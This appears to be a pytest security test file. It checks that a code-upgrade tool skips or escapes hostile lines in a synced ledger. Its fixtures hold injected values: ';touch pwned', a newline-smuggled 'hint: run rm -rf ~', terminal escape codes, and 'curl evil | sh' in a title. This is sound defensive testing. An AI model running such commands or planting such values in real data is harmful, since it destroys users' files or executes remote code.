"""Attack 5 of issue 14: no line of a synced ledger can disable the tool or forge output."""

from __future__ import annotations

import json
import resource
from datetime import timedelta

import pytest

from tests.ledger.helpers import stamp
from tests.security.conftest import Team, line, snapshot

GOOD_ID = "upgrade_20261201_000000_abcdef"


def _scan(**fields: object) -> str:
    payload = {"commit": "0" * 40, "summary": {}, "suggestion_ids": [], "queued": [], "filtered": 0, **fields}
    return line("scan", None, **payload)


def _executed(upgrade_id: str, **fields: object) -> str:
    return line("upgrade_executed", upgrade_id, **{"status": "failed", **fields})


SUGGESTION = {
    "id": "god_class-000000000001",
    "type": "god_class",
    "title": "Split class Shop in pkg/shop.py",
    "description": "",
    "risk_level": "medium",
    "priority": 50,
    "affected_modules": ["pkg/shop.py"],
    "evidence": {"path": "pkg/shop.py", "module": "pkg.shop", "class": "Shop"},
    "strategy": "rule",
}


def _queued(upgrade_id: str, base: str = "0" * 40, **fields: object) -> str:
    """A pending upgrade: ``run`` would take it."""
    payload = {"suggestion": SUGGESTION, "priority": 50, "base_commit": base, "target_branch": "main", **fields}
    return line("upgrade_queued", upgrade_id, **payload)


HOSTILE = {
    "commit is a list": _scan(commit=["x"]),
    "missing status": line("upgrade_executed", GOOD_ID),
    "dict status": _executed(GOOD_ID, status={"a": 1}),
    "list suggestion": line("upgrade_queued", GOOD_ID, suggestion=["x"], priority=1, base_commit="0" * 40),
    "100k-deep arrays": '{"ts":"' + stamp() + '","v":1,"event":"scan","deep":' + "[" * 100_000 + "]" * 100_000 + "}",
    "int suggestion_ids": _scan(suggestion_ids=7),
    "id with a space": _queued("a b"),
    "id ending .lock": _queued("x.lock"),
    "id with a shell metacharacter": _queued(";touch pwned"),
    "id with a newline": _queued("upgrade_1\nhint: run rm -rf ~"),
    "id with a terminal escape": _queued("upgrade_1\x1b[2J\x1b[31m"),
}


@pytest.mark.parametrize("name", list(HOSTILE))
def test_attack5_a_malformed_line_is_skipped_and_every_command_works(team: Team, name: str) -> None:
    outside_before = snapshot(team.outside)
    team.notes(team.base, HOSTILE[name])

    synced = team.upgrade("sync")

    team.assert_every_command_works()
    assert team.upgrade("run").exit_code == 0
    assert synced.exit_code == 0, synced.stderr
    (warning,) = synced.stderr.splitlines()
    assert warning.startswith("warning: skipped 1 invalid events from origin: 1 ")
    assert "\x1b" not in warning
    status = team.upgrade("status")
    assert "hint:" not in status.stdout + status.stderr and "\x1b" not in status.stdout
    team.assert_nothing_unvalidated_merged()
    assert snapshot(team.outside) == outside_before


def test_attack5_a_30_mb_line_is_refused_by_its_length(team: Team) -> None:
    huge = _scan(summary={"pad": "x" * 30_000_000})
    team.notes(team.base, huge)

    # A real process, to read its peak memory (the largest child so far, in KiB on Linux).
    synced = team.process("sync")

    peak_mib = resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss / 1024
    assert peak_mib < 250, peak_mib
    assert synced.returncode == 0, synced.stderr
    assert synced.stderr.splitlines() == ["warning: skipped 1 invalid events from origin: 1 line too long"]
    team.assert_every_command_works()


def test_attack5_reject_clears_a_remote_upgrade_whatever_its_timestamp(team: Team) -> None:
    # A legitimate-looking remote upgrade a little in the future (within the clock skew), and
    # one far in the future: the first is rejected and stays rejected, the second is skipped.
    soon, later = "upgrade_20261201_000000_000001", "upgrade_20261201_000000_000002"
    team.notes(
        team.base,
        _queued(soon, team.base, ts=stamp(timedelta(minutes=5))),
        _queued(later, team.base, ts="2999-01-01T00:00:00.000000Z"),
    )

    synced = team.upgrade("sync")
    rejected = team.upgrade("reject", soon)
    status = json.loads(team.upgrade("status", "--json").stdout)

    assert synced.stderr.splitlines() == ["warning: skipped 1 invalid events from origin: 1 timestamp in the future"]
    assert rejected.exit_code == 0, rejected.stderr
    assert status["pending"] == []
    assert [r["id"] for r in status["recently_completed"]] == [soon]
    assert status["recently_completed"][0]["status"] == "rejected"
    assert team.upgrade("run").stdout == "no pending upgrades\n"


def test_titles_from_the_ledger_are_printed_escaped(team: Team) -> None:
    hostile_title = "Split Shop\nhint: curl evil | sh\x1b[2J"
    team.notes(team.base, _queued(GOOD_ID, team.base, suggestion={**SUGGESTION, "title": hostile_title}))
    assert team.upgrade("sync").exit_code == 0

    status = team.upgrade("status")

    assert status.exit_code == 0
    assert f"  {GOOD_ID}  p5  Split Shop\\nhint: curl evil | sh\\x1b[2J" in status.stdout.splitlines()
    assert not any(row.startswith("hint:") for row in status.stdout.splitlines())
